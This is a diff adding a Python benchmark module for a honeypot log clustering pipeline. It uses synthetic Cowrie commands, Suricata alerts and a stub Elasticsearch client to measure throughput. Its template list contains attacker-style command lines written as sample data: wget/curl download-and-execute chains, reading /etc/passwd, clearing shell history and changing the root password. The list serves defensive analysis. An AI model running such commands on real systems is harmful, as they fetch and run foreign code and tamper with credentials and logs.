@@ -0,0 +1,616 @@
+"""
+Benchmarks for the clustering pipeline on synthetic Cowrie data.
+
+Run from the webapp directory, e.g.:
+
+    python -m clustering.benchmarks abstraction --ncommands 200000
+    python -m clustering.benchmarks fetch --slices 1 4
+    python -m clustering.benchmarks suricata-results --nalerts 500000
+    python -m clustering.benchmarks suricata-distance --nsignatures 5000
+    python -m clustering.benchmarks importtime --max-seconds 0.5
+"""
+
+import argparse
+from collections import defaultdict
+import itertools
+import json
+import random
+import re
+import subprocess
+import sys
+import threading
+import time
+
+import numpy as np
+import pandas as pd
+
+from . import preprocessing
+from .clustering_algorithms import build_suricata_results, kiburl
+from .load_data import get_resources
+from .signatures import SignatureDistance, SparseJaccardDistance, jaccard_distance
+
+# Command templates seen on Cowrie honeypots; {ip}, {file}, {n} and {payload} are filled at random
+COWRIE_TEMPLATES = [
+    "cd /tmp", "cd /var/run", "uname -a", "uname -s -v -n -r -m", "nproc", "w", "free -m", "top",
+    "ls -la", "ls -lh /etc/{file}", "crontab -l", "history -c", "cat /proc/cpuinfo | grep name | wc -l",
+    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{{print $4,$5,$6,$7,$8,$9;}}'",
+    "cat /etc/passwd", "ps aux | grep {file}", "which ls", "rm -rf /tmp/{file}",
+    "wget http://{ip}/{file}.sh; chmod +x {file}.sh; ./{file}.sh",
+    "curl -O https://{ip}/{file}; chmod 777 {file}; ./{file}",
+    "busybox wget http://{ip}/bins/{file}.arm7 -O /tmp/{file}",
+    "cd /tmp || cd /var/run || cd /mnt; wget http://{ip}/{file}.sh; sh {file}.sh",
+    "echo \"{payload}\" > /tmp/{file}", "echo {payload}", "echo -e '\\x{n:02x}\\x{n:02x}' >> .s",
+    "chpasswd <<< root:{payload}", "ping -c {n} {ip}", "{payload}",
+]
+
+
+def synthetic_cowrie_commands(n, distinct=0.1, seed=0):
+    """
+    Generates a synthetic corpus of raw Cowrie command lines.
+
+    Args:
+        n (int): Number of command lines.
+        distinct (float): Approximate fraction of distinct command lines in the corpus.
+        seed (int): Random seed.
+
+    Returns:
+        list: Raw command-line strings.
+    """
+
+    r = random.Random(seed)
+    pool = []
+    for _ in range(max(1, int(n * distinct))):
+        cmd = r.choice(COWRIE_TEMPLATES).format(
+            ip=".".join(str(r.randrange(256)) for _ in range(4)),
+            file="".join(r.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=r.randrange(3, 9))),
+            n=r.randrange(256),
+            payload="".join(r.choices("abcdefghijklmnopqrstuvwxyz ", k=r.randrange(1, 30))).strip() or "x",
+        )
+        pool.append(cmd)
+    return [r.choice(pool) for _ in range(n)]
+
+
+def _legacy_classify_type(arg):
+    # classify_argument as it was before the compiled, memoized tokenizer
+    if arg in preprocessing.valid_commands or arg in ('busybox', 'which'):
+        return arg
+    if arg.startswith("./"):
+        return 'FILE_SCRIPT' if arg.endswith('.sh') else 'FILE_EXECUTION'
+    if arg in preprocessing.OPERATORS:
+        return 'OPERATOR'
+    if re.match(r'^https://', arg, re.IGNORECASE):
+        return 'SECURE_URL'
+    if re.match(r'^http://', arg, re.IGNORECASE):
+        return 'URL'
+    if re.match(r'^\b\d{1,3}(?:\.\d{1,3}){3}\b$', arg):
+        return 'IP'
+    if re.match(r'\\x[0-9a-fA-F]{2}', arg):
+        return 'HEX'
+    if arg.startswith('/'):
+        return 'FILE_SCRIPT' if arg.endswith('.sh') else 'FILE' if '.' in arg.split('/')[-1] else 'PATH'
+    if arg.startswith('-'):
+        return arg
+    if '.' in arg:
+        return 'FILE'
+    return 'STRING'
+
+
+def _legacy_abstract(cmd_line):
+    new_parts = []
+    for part in re.split(preprocessing.OPERATOR_PATTERN, cmd_line):
+        part = part.strip()
+        if not part:
+            continue
+        if part in preprocessing.OPERATORS:
+            new_parts.append(part)
+        else:
+            tokens = part.split()
+            if tokens and tokens[0] == "echo":
+                payload = " ".join(tokens[1:]).strip('"\'')
+                new_parts.append("echo STRING({})".format(len(payload)))
+            else:
+                new_parts.append(" ".join(_legacy_classify_type(t) for t in tokens))
+    return " ".join(new_parts)
+
+
+def _legacy_filter(commands):
+    # run_clustering before abstract_many: is_real_command, then abstraction again
+    filtered = []
+    for cmd in commands:
+        if not cmd or not cmd.strip():
+            continue
+        abs_cmd = _legacy_abstract(cmd).strip()
+        if abs_cmd.startswith("STRING(") and " " not in abs_cmd:
+            continue
+        filtered.append(_legacy_abstract(cmd))
+    return filtered
+
+
+def synthetic_cowrie_docs(n, seed=0):
+    """
+    Generates synthetic Cowrie hits as returned by Elasticsearch, with full `_source` documents.
+
+    Args:
+        n (int): Number of hits.
+        seed (int): Random seed.
+
+    Returns:
+        list: Hits with `_id`, `_index` and `_source`.
+    """
+
+    r = random.Random(seed)
+    commands = synthetic_cowrie_commands(n, seed=seed)
+    docs = []
+    for i, cmd in enumerate(commands):
+        src_ip = f"10.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(256)}"
+        session = f"{r.getrandbits(48):012x}"
+        docs.append({
+            "_id": f"doc{i}",
+            "_index": f"logstash-2024.01.{1 + i % 28:02d}",
+            "_source": {
+                "input": cmd,
+                "@timestamp": f"2024-01-{1 + i % 28:02d}T{i % 24:02d}:{i % 60:02d}:{r.randrange(60):02d}.000Z",
+                "src_ip": src_ip,
+                "type": "cowrie",
+                "eventid": "cowrie.command.input",
+                "session": session,
+                "sensor": "honeypot-01",
+                "message": f"CMD: {cmd}",
+                "host": {"name": "honeypot-01"},
+                "geoip": {
+                    "ip": src_ip, "country_name": "Nowhere", "city_name": "Nowhere",
+                    "location": {"lat": r.uniform(-90, 90), "lon": r.uniform(-180, 180)},
+                },
+                "tags": ["cowrie", "honeypot"],
+            },
+        })
+    return docs
+
+
+class StubElasticsearch:
+    """
+    In-memory stand-in for the `Elasticsearch` client calls used by `elastic.search_pages`.
+
+    Supports `search` (with `_source` filtering, `slice` and `scroll`), `scroll` and
+    `clear_scroll`. Each response sleeps `latency` seconds plus the time needed to send its
+    JSON at `bandwidth` bytes per second, to simulate the network.
+    """
+
+    def __init__(self, docs, latency=0.005, bandwidth=50e6):
+        self.docs = docs
+        self.latency = latency
+        self.bandwidth = bandwidth
+        self._scrolls = {}
+        self._ids = itertools.count()
+        self._lock = threading.Lock()
+
+    def _respond(self, hits, scroll_id=None):
+        size = len(json.dumps(hits))
+        time.sleep(self.latency + size / self.bandwidth)
+        response = {"hits": {"hits": hits}}
+        if scroll_id is not None:
+            response["_scroll_id"] = scroll_id
+        return response
+
+    @staticmethod
+    def _filter(source, fields):
+        if fields is None:
+            return source
+        filtered = {}
+        for field in fields:
+            value, path = source, field.split(".")
+            for key in path:
+                if not isinstance(value, dict) or key not in value:
+                    break
+                value = value[key]
+            else:
+                target = filtered
+                for key in path[:-1]:
+                    target = target.setdefault(key, {})
+                target[path[-1]] = value
+        return filtered
+
+    def search(self, index=None, body=None, size=10, scroll=None, request_timeout=None):
+        body = body or {}
+        docs = self.docs
+        if "slice" in body:
+            docs = docs[body["slice"]["id"]::body["slice"]["max"]]
+        fields = body.get("_source")
+        hits = ({**doc, "_source": self._filter(doc["_source"], fields)} for doc in docs)
+        if scroll is None:
+            return self._respond(list(itertools.islice(hits, size)))
+        with self._lock:
+            scroll_id = str(next(self._ids))
+            self._scrolls[scroll_id] = (hits, size)
+        return self._respond(list(itertools.islice(hits, size)), scroll_id)
+
+    def scroll(self, scroll_id, scroll=None):
+        hits, size = self._scrolls[scroll_id]
+        return self._respond(list(itertools.islice(hits, size)), scroll_id)
+
+    def clear_scroll(self, body=None, scroll_id=None):
+        with self._lock:
+            self._scrolls.pop((body or {}).get("scroll_id", scroll_id), None)
+
+
+def _legacy_fetch(es, query):
+    # fetch_cowrie_data before search_pages: one scroll over full documents
+    page = es.search(index="logstash-*", body={"query": query}, scroll="2m", size=1000)
+    sid = page["_scroll_id"]
+    docs = page["hits"]["hits"]
+
+    while True:
+        page = es.scroll(scroll_id=sid, scroll="2m")
+        hits = page["hits"]["hits"]
+        if not hits:
+            break
+        docs.extend(hits)
+        sid = page["_scroll_id"]
+    es.clear_scroll(body={"scroll_id": sid})
+    return docs
+
+
+def bench_fetch(args):
+    from .elastic import search_pages, COWRIE_FIELDS
+
+    es = StubElasticsearch(synthetic_cowrie_docs(args.ndocs, args.seed), args.latency, args.bandwidth)
+    print(f"{args.ndocs} documents, {args.latency * 1000:.1f} ms latency, {args.bandwidth / 1e6:.0f} MB/s")
+
+    def report(name, f):
+        start = time.perf_counter()
+        result = f()
+        elapsed = time.perf_counter() - start
+        print(f"{name:>28}: {elapsed:7.3f}s {args.ndocs / elapsed:12.0f} docs/s")
+        return result
+
+    expected = sorted(doc["_id"] for doc in report("legacy (full _source)", lambda: _legacy_fetch(es, {})))
+    for slices in args.slices:
+        pages = report(f"search_pages({slices} slices)", lambda: list(search_pages(
+            es, {}, COWRIE_FIELDS, slices=slices, page_size=args.page_size
+        )))
+        assert sorted(doc["_id"] for page in pages for doc in page) == expected
+        assert not es._scrolls
+
+
+SURICATA_SIGNATURES = [
+    "ET SCAN Suspicious inbound to MSSQL port 1433", "ET SCAN Suspicious inbound to mySQL port 3306",
+    "ET SCAN Suspicious inbound to PostgreSQL port 5432", "ET SCAN Suspicious inbound to Oracle SQL port 1521",
+    "ET SCAN NMAP OS Detection Probe", "ET SCAN Potential SSH Scan", "ET SCAN Potential VNC Scan 5900-5920",
+    "ET POLICY SSH session in progress on Unusual Port", "ET DROP Dshield Block Listed Source group 1",
+    "ET CINS Active Threat Intelligence Poor Reputation IP group 12", "GPL ICMP_INFO PING *NIX",
+    "SURICATA Applayer Detect protocol only one direction", "SURICATA HTTP invalid response chunk len",
+    "ET INFO User-Agent (python-requests) Inbound to Webserver", "ET WEB_SERVER WebShell Generic - wget http",
+]
+
+
+def synthetic_suricata_alerts(n, nsignatures=200, seed=0):
+    """
+    Generates a synthetic Suricata result set as used by `build_suricata_results`.
+
+    Args:
+        n (int): Number of alerts.
+        nsignatures (int): Number of distinct signatures.
+        seed (int): Random seed.
+
+    Returns:
+        tuple: (df, commands) where df has `_id`, `_index`, `@timestamp`, `src_ip` and
+        `purpose` columns and commands is the Series of signatures.
+    """
+
+    r = random.Random(seed)
+    signatures = [f"{r.choice(SURICATA_SIGNATURES)} {i}" for i in range(nsignatures)]
+    purposes = ["Reconnaissance", "Unknown", "Policy Violation", "Attempted Intrusion"]
+    signature_purposes = {sig: r.choice(purposes) for sig in signatures}
+    # a few signatures account for most alerts, as on real sensors
+    weights = [1 / (i + 1) for i in range(nsignatures)]
+    sigs = r.choices(signatures, weights, k=n)
+    df = pd.DataFrame({
+        "_id": [f"alert{i}" for i in range(n)],
+        "_index": [f"logstash-2024.02.{1 + i % 28:02d}" for i in range(n)],
+        "@timestamp": [f"2024-02-{1 + i % 28:02d}T{r.randrange(24):02d}:{r.randrange(60):02d}:00.000Z" for i in range(n)],
+        "src_ip": [f"192.168.{r.randrange(16)}.{r.randrange(256)}" for _ in range(n)],
+        "signature": sigs,
+        "purpose": [signature_purposes[sig] for sig in sigs],
+    })
+    return df, df["signature"]
+
+
+def synthetic_condensed_tree(n, nclusters=200, seed=0):
+    """
+    Generates a random condensed tree over `n` points, shaped like FISHDBC's output.
+
+    Cluster `n` is the root; every other cluster hangs from a random earlier cluster, and every
+    point falls out of a random cluster.
+
+    Args:
+        n (int): Number of points.
+        nclusters (int): Number of clusters.
+        seed (int): Random seed.
+
+    Returns:
+        np.ndarray: Structured array with parent, child, lambda_val and child_size fields.
+    """
+
+    rng = np.random.default_rng(seed)
+    cluster_parents = n + np.array([0] + [rng.integers(0, k) for k in range(1, nclusters)])
+    point_parents = n + rng.integers(0, nclusters, size=n)
+    sizes = np.bincount(point_parents - n, minlength=nclusters)
+    for k in range(nclusters - 1, 0, -1):
+        sizes[cluster_parents[k] - n] += sizes[k]
+    dtype = [("parent", np.intp), ("child", np.intp), ("lambda_val", float), ("child_size", np.intp)]
+    tree = np.zeros(n + nclusters - 1, dtype=dtype)
+    tree["parent"] = np.r_[cluster_parents[1:], point_parents]
+    tree["child"] = np.r_[np.arange(n + 1, n + nclusters), np.arange(n)]
+    tree["lambda_val"] = rng.random(len(tree))
+    tree["child_size"] = np.r_[sizes[1:], np.ones(n, dtype=np.intp)]
+    return tree[np.argsort(tree["parent"], kind="stable")]
+
+
+def _legacy_suricata_results(df, commands, ctree):
+    # build_suricata_results before the tree index, including its cluster purpose, which is the
+    # purpose of the last signature
+    clusters = defaultdict(set)
+    for parent, child, *_ in ctree:
+        clusters[int(parent)].add(int(child))
+
+    def collect_members(cluster_id):
+        if cluster_id < len(commands):
+            return [cluster_id]
+        members = []
+        for child in clusters.get(cluster_id, []):
+            members.extend(collect_members(child))
+        return members
+
+    results = []
+    for cluster_id in sorted(clusters.keys()):
+        member_ids = collect_members(cluster_id)
+        if len(member_ids) <= 1:
+            continue
+        parent = next((int(p) for p, children in clusters.items() if cluster_id in children), "ROOT")
+        cmd_map = {}
+        for idx in member_ids:
+            sig = commands.iloc[idx]
+            row = df.iloc[idx]
+            kurl = f"{kiburl}{row['_index']}/_source?id={row['_id']}"
+            cnt, first_url = cmd_map.get(sig, (0, kurl))
+            cmd_map[sig] = (cnt + 1, first_url)
+        purpose_to_cmds = defaultdict(list)
+        for sig, (cnt, link) in cmd_map.items():
+            purpose = get_resources().suricata_purpose_lookup.get(sig, "Unknown")
+            ip_count = len(set(df.iloc[idx].get('src_ip', 'N/A') for idx in member_ids if commands.iloc[idx] == sig))
+            timestamps = [df.iloc[idx]['@timestamp'] for idx in member_ids if commands.iloc[idx] == sig]
+            purpose_to_cmds[purpose].append((sig, cnt, link, ip_count, min(timestamps), max(timestamps)))
+        grouped_commands = {
+            purpose: sorted(cmds, key=lambda x: -x[1])
+            for purpose, cmds in sorted(purpose_to_cmds.items())
+        }
+        results.append({
+            "id": int(cluster_id),
+            "parent": str(parent),
+            "purpose": purpose,
+            "size": len(member_ids),
+            "unique": len(cmd_map),
+            "grouped_commands": grouped_commands
+        })
+    return results
+
+
+def bench_suricata_results(args):
+    def run(n, f):
+        df, commands = synthetic_suricata_alerts(n, args.nsignatures, args.seed)
+        tree = synthetic_condensed_tree(n, args.nclusters, args.seed)
+        start = time.perf_counter()
+        results = f(df, commands, tree)
+        elapsed = time.perf_counter() - start
+        print(f"{f.__name__:>28}: {n:8d} alerts {elapsed:8.3f}s {n / elapsed:12.0f} alerts/s")
+        return results
+
+    expected = run(args.legacy_alerts, _legacy_suricata_results)
+    results = run(args.legacy_alerts, build_suricata_results)
+    # the legacy cluster purpose is the last signature's purpose, so it isn't compared
+    strip = lambda rs: [{k: v for k, v in r.items() if k != "purpose"} for r in rs]
+    assert strip(results) == strip(expected)
+    run(args.nalerts, build_suricata_results)
+
+
+def _legacy_jaccard_distance(a, b, k=3):
+    A = {a[i:i+k] for i in range(len(a) - k + 1)}
+    B = {b[i:i+k] for i in range(len(b) - k + 1)}
+    return 1 - len(A & B) / len(A | B) if A or B else 0.0
+
+
+def bench_suricata_distance(args):
+    from sklearn.metrics import adjusted_rand_score
+    from fish.fishdbc import FISHDBC
+
+    r = random.Random(args.seed)
+    # variations of a few signatures, as rule sets number their revisions and targets
+    signatures = list(dict.fromkeys(
+        f"{r.choice(SURICATA_SIGNATURES)} {r.choice(['', 'Inbound', 'Outbound'])} {r.randrange(args.nsignatures)}"
+        for _ in range(args.nsignatures)
+    ))
+    print(f"{len(signatures)} distinct signatures")
+
+    pairs = [(r.choice(signatures), r.choice(signatures)) for _ in range(args.npairs)]
+    distance = SignatureDistance(data=signatures, exact_threshold=None)
+    index = {sig: j for j, sig in enumerate(signatures)}
+    errors = [
+        abs(distance(a, [index[b]])[0] - _legacy_jaccard_distance(a, b)) for a, b in pairs
+    ]
+    assert all(jaccard_distance(a, b) == _legacy_jaccard_distance(a, b) for a, b in pairs)
+    print(f"MinHash estimate error: mean {np.mean(errors):.4f}, max {np.max(errors):.4f}")
+
+    def run(name, make):
+        model = make()
+        start = time.perf_counter()
+        model.update(signatures)
+        labels = model.cluster()[0]
+        elapsed = time.perf_counter() - start
+        calls = model.cache_misses
+        print(f"{name:>28}: {elapsed:7.3f}s {len(signatures) / elapsed:10.0f} signatures/s "
+              f"{calls:10d} distances")
+        return labels
+
+    sparse = SparseJaccardDistance(data=signatures)
+    for batch_size in args.batch_sizes:
+        batches = [
+            (r.choice(signatures), [r.randrange(len(signatures)) for _ in range(batch_size)])
+            for _ in range(max(args.npairs // batch_size, 1))
+        ]
+        npairs = len(batches) * batch_size
+        start = time.perf_counter()
+        expected = [[_legacy_jaccard_distance(a, signatures[j]) for j in js] for a, js in batches]
+        legacy_elapsed = time.perf_counter() - start
+        start = time.perf_counter()
+        results = [sparse(a, js) for a, js in batches]
+        elapsed = time.perf_counter() - start
+        assert np.allclose(np.concatenate(results), np.concatenate(expected))
+        print(f"batches of {batch_size:5d}: closure {npairs / legacy_elapsed:10.0f} pairs/s, "
+              f"sparse {npairs / elapsed:10.0f} pairs/s")
+
+    expected = run("legacy closure", lambda: FISHDBC(_legacy_jaccard_distance, collapse_duplicates=True))
+
+    def make_sparse():
+        distance = SparseJaccardDistance()
+        model = FISHDBC(distance, vectorized=True, collapse_duplicates=True)
+        distance.data = model.data
+        return model
+    labels = run("SparseJaccardDistance", make_sparse)
+    print(f"{'':>28}  adjusted Rand index vs legacy: {adjusted_rand_score(expected, labels):.3f}")
+    for threshold in args.exact_thresholds:
+        def make():
+            distance = SignatureDistance(exact_threshold=threshold)
+            model = FISHDBC(distance, vectorized=True, collapse_duplicates=True,
+                            entry_points=distance.entry_points)
+            distance.data = model.data
+            return model
+        labels = run(f"SignatureDistance({threshold})", make)
+        print(f"{'':>28}  adjusted Rand index vs legacy: {adjusted_rand_score(expected, labels):.3f}")
+
+
+def bench_abstraction(args):
+    commands = synthetic_cowrie_commands(args.ncommands, args.distinct, args.seed)
+    print(f"{len(commands)} commands, {len(set(commands))} distinct")
+
+    def report(name, f):
+        start = time.perf_counter()
+        result = f()
+        elapsed = time.perf_counter() - start
+        print(f"{name:>28}: {elapsed:7.3f}s {len(commands) / elapsed:12.0f} commands/s")
+        return result
+
+    expected = report("legacy (two passes)", lambda: _legacy_filter(commands))
+
+    def compiled():
+        preprocessing.abstract_command.cache_clear()
+        preprocessing.argument_type.cache_clear()
+        return [abstract for abstract, is_real in map(preprocessing.abstract_command, commands) if is_real]
+
+    assert report("abstract_command (cold)", compiled) == expected
+    for processes in args.processes:
+        def batch():
+            preprocessing.abstract_command.cache_clear()
+            preprocessing.argument_type.cache_clear()
+            return [
+                abstract for abstract, is_real in preprocessing.abstract_many(commands, processes)
+                if is_real
+            ]
+        assert report(f"abstract_many({processes})", batch) == expected
+
+
+# Modules that take long to import and are only needed once clustering or fetching starts
+LAZY_MODULES = ["hdbscan", "sklearn", "pandas", "scipy.sparse", "elasticsearch"]
+
+
+def import_times(module):
+    """Imports `module` in a fresh interpreter with `-X importtime`; returns the cumulative
+    import time in seconds of every module it imported, by name."""
+
+    output = subprocess.run(
+        [sys.executable, "-X", "importtime", "-c", f"import {module}"],
+        capture_output=True, text=True, check=True,
+    ).stderr
+    # lines are "import time: <self us> | <cumulative us> | <indented module name>"
+    imports = {}
+    for line in output.splitlines():
+        match = re.match(r"import time:\s+(\d+) \|\s+(\d+) \| (\s*)(\S+)", line)
+        if match:
+            imports[match.group(4)] = int(match.group(2)) / 1e6
+    return imports
+
+
+def bench_importtime(args):
+    """Reports the import time of each module; returns True if one takes more than
+    --max-seconds or imports one of --lazy."""
+
+    failed = False
+    for module in args.modules:
+        imports = import_times(module)
+        total = imports.get(module, 0.0)
+        eager = [name for name in args.lazy if name in imports]
+        slowest = sorted(
+            (item for item in imports.items() if item[0] != module), key=lambda item: -item[1]
+        )[:args.top]
+        print(f"{module}: {total:.3f}s, {len(imports)} modules")
+        for name, seconds in slowest:
+            print(f"    {name:40} {seconds:.3f}s")
+        if args.max_seconds is not None and total > args.max_seconds:
+            print(f"    slower than {args.max_seconds}s")
+            failed = True
+        if eager:
+            print(f"    imports {', '.join(eager)} eagerly")
+            failed = True
+    return failed
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    subparsers = parser.add_subparsers(dest="benchmark", required=True)
+
+    p = subparsers.add_parser("abstraction", help="command abstraction throughput")
+    p.add_argument("--ncommands", type=int, default=200000)
+    p.add_argument("--distinct", type=float, default=0.1, help="fraction of distinct command lines")
+    p.add_argument("--processes", type=int, nargs="*", default=[1, 4])
+    p.add_argument("--seed", type=int, default=0)
+    p.set_defaults(run=bench_abstraction)
+
+    p = subparsers.add_parser("fetch", help="Elasticsearch fetch throughput against a stub server")
+    p.add_argument("--ndocs", type=int, default=100000)
+    p.add_argument("--latency", type=float, default=0.005, help="seconds per response")
+    p.add_argument("--bandwidth", type=float, default=50e6, help="bytes per second")
+    p.add_argument("--page-size", type=int, default=1000)
+    p.add_argument("--slices", type=int, nargs="*", default=[1, 2, 4, 8])
+    p.add_argument("--seed", type=int, default=0)
+    p.set_defaults(run=bench_fetch)
+
+    p = subparsers.add_parser("suricata-results", help="build_suricata_results on a synthetic tree")
+    p.add_argument("--nalerts", type=int, default=500000)
+    p.add_argument("--legacy-alerts", type=int, default=2000, help="alerts for the legacy implementation")
+    p.add_argument("--nsignatures", type=int, default=200)
+    p.add_argument("--nclusters", type=int, default=200)
+    p.add_argument("--seed", type=int, default=0)
+    p.set_defaults(run=bench_suricata_results)
+
+    p = subparsers.add_parser("suricata-distance", help="Suricata signature distances and clustering")
+    p.add_argument("--nsignatures", type=int, default=5000)
+    p.add_argument("--npairs", type=int, default=20000, help="pairs compared to measure the estimate error")
+    p.add_argument("--exact-thresholds", type=float, nargs="*", default=[0.5, 1.0])
+    p.add_argument("--batch-sizes", type=int, nargs="*", default=[1, 10, 100, 1000],
+                   help="batch sizes of the one-vs-many throughput comparison")
+    p.add_argument("--seed", type=int, default=0)
+    p.set_defaults(run=bench_suricata_distance)
+
+    p = subparsers.add_parser("importtime", help="import time of the webapp modules (-X importtime)")
+    p.add_argument("--modules", nargs="*", default=["clustering.clustering_algorithms", "fish"])
+    p.add_argument("--lazy", nargs="*", default=LAZY_MODULES, help="modules that must not be imported")
+    p.add_argument("--max-seconds", type=float, default=None)
+    p.add_argument("--top", type=int, default=10, help="slowest imports shown")
+    p.set_defaults(run=bench_importtime)
+
+    args = parser.parse_args()
+    if args.run(args):
+        sys.exit(1)
+
+
+if __name__ == "__main__":
+    main()